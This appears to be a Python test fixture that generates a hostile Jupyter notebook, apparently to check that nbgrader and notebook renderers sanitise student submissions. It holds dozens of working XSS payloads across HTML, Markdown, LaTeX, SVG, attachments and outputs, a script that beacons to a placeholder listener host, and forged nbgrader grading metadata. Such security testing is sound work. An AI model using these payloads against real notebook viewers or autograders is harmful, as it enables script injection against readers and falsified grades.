# ruff: noqa: E501 - a line a trick
"""A submission that tries to run a script or to load something in whoever looks at it."""

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_raw_cell

GRAB = "window.grabbed=1;document.title='grabbed';new Image().src='{there}/script'"

# `{there}` is where somebody listens, `{grab}` is a script.
HTML = [
    "<script>{grab}</script>",
    '<img src=nothing onerror="{grab}">',
    "<svg onload=\"{grab}\"><script>{grab}</script><image href='{there}/svg-image'/></svg>",
    '<svg><animate onbegin="{grab}" attributeName=x dur=1s></svg>',
    '<math><mtext><mglyph><style><img src=nothing onerror="{grab}"></style></mglyph></mtext></math>',
    '<math href="javascript:{grab}">click</math>',
    "<noscript><p title='</noscript><img src=nothing onerror=\"{grab}\">'></noscript>",
    "<iframe src='{there}/iframe'></iframe><iframe srcdoc=\"<script>parent.{grab}</script>\"></iframe>",
    "<object data='{there}/object'></object><embed src='{there}/embed'>",
    "<meta http-equiv=refresh content='0;url={there}/refresh'>",
    "<base href='{there}/base/'><img src='relative'>",
    "<link rel=stylesheet href='{there}/stylesheet'><link rel=prefetch href='{there}/prefetch'>",
    "<style>@import '{there}/import'; body {{background: url({there}/style)}}</style>",
    "<p style=\"background:url('{there}/css')\">x</p><p style='background:u\\72l({there}/css-escaped)'>",
    "<p style='color:red;background-image:image-set(url({there}/set) 1x)'>x</p>",
    "<img src='{there}/img'><img srcset='{there}/srcset 1x'><img src=//127.0.0.1/x>",
    "<picture><source srcset='{there}/source'><img></picture>",
    "<video src='{there}/video' autoplay poster='{there}/poster'></video><audio src='{there}/audio'>",
    '<input type=image src=\'{there}/input\'><button onclick="{grab}" autofocus onfocus="{grab}">x',
    "<form action='{there}/form' id=f><input name=a></form><script>f.submit()</script>",
    "<table background='{there}/table'><tr><td background='{there}/td'>x</td></tr></table>",
    '<details open ontoggle="{grab}"><summary>x</summary></details>',
    "<a href='javascript:{grab}' class=bait>x</a><a href=' java\nscript:{grab}' class=bait>x</a>",
    "<a href='data:text/html,<script>{grab}</script>' class=bait>x</a><a ping='{there}/ping' href='#'>",
    "<div id=notebook-container><template><script>{grab}</script></template></div>",
    "<textarea><img title='</textarea><img src=nothing onerror=\"{grab}\">'></textarea>",
    '<!--><img src=nothing onerror="{grab}">-->',
    "</div></div></div></body><script>{grab}</script>",
]
MARKDOWN = [
    "![a]({there}/md-image)",
    "![a][there]\n\n[there]: {there}/md-reference",
    "[click](javascript:{grab})",
    "[click](<java&#10;script:{grab}>)",
    "<javascript:{grab}>",
    '$\\href{{javascript:{grab}}}{{x}}$ and $\\text{{<img src=nothing onerror="{grab}">}}$',
    "![a](attachment:x.svg) ![b](attachment:y.png) ![c](attachment:z)",
    "`` <script>{grab}</script> ``\n\n    <script>{grab}</script>",
    "\\[x\\](javascript:{grab})",
]
SHOWS = """\
from IPython.display import HTML, SVG, IFrame, Image, Javascript, Latex, Markdown, display
for html in {html!r}:
    display(HTML(html))
    display({{"text/html": html}}, raw=True, metadata={{"text/html": {{"isolated": True}}}})
    display(Markdown(html))
    print(html)
    display({{"text/plain": html}}, raw=True)
for text in {markdown!r}:
    display(Markdown(text))
    display(Latex(text))
display(Javascript({grab!r}))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>{grab}</script>"
            "<image href='{there}/svg-output'/></svg>"))
display(IFrame("{there}/iframe-output", 100, 100))
display(Image(url="{there}/image-output"))
png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
bad = '1 onload={grab}'
display({{"image/png": png}}, raw=True, metadata={{"image/png": {{"width": bad, "alt": '"' + bad}}}})
display({{"image/png": '"><script>{grab}</script>'}}, raw=True)
display({{"application/javascript": {grab!r}}}, raw=True)
display({{"application/vnd.jupyter.widget-view+json": '{{"model_id": "x"}}'}}, raw=True)
display({{"application/vnd.mystery+json": "</script><script>{grab}</script>"}}, raw=True)
raise ValueError({html!r}[1])
"""


def hostile_notebook(there: str, answer_id: str, code_id: str, check: str) -> NotebookNode:
    """All of it in one notebook: texts, attachments, outputs, names, metadata.

    Args:
        there: address of the one who listens.
        answer_id: nbgrader's name of the written answer.
        code_id: nbgrader's name of the code to write.
        check: the locked test, as released.
    """
    grab = GRAB.format(there=there)
    html = [one.format(there=there, grab=grab) for one in HTML]
    markdown = [one.format(there=there, grab=grab) for one in MARKDOWN]
    shows = SHOWS.format(html=html, markdown=markdown, grab=grab, there=there)
    flags = {"schema_version": 3, "task": False, "solution": True, "locked": False}
    answer = {"nbgrader": {"grade_id": answer_id, "grade": True, "points": 2.0, **flags}}
    code = {"nbgrader": {"grade_id": code_id, "grade": False, **flags}, "tags": [f'"><{html[1]}']}
    cells = [new_markdown_cell(one) for one in html + markdown]
    cells += [new_raw_cell(one, metadata={"raw_mimetype": "text/html"}) for one in html]
    written = new_markdown_cell("\n\n".join(html + markdown), metadata=answer)
    written["attachments"] = {
        "x.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj4="},
        "y.png": {f"image/png;base64,x' onerror=\"{grab}\" x='": "AAAA"},
        "z": {"text/html": f"<script>{grab}</script>"},
    }
    cells += [written, new_code_cell("answer = 42", metadata=code)]
    cells += [new_code_cell(shows), new_code_cell(f"'''{html[0]}'''")]
    forged = {"grade_id": html[1], "grade": True, "points": 9.0, "solution": False, "locked": True}
    cells.append(new_code_cell("1", metadata={"nbgrader": {**forged, "schema_version": 3}}))
    kernel = {"name": "python3", "language": "python", "display_name": html[1]}
    metadata = {"kernelspec": kernel, "title": html[0], "widgets": {html[0]: {"state": html[0]}}}
    return new_notebook(cells=cells, metadata=metadata)
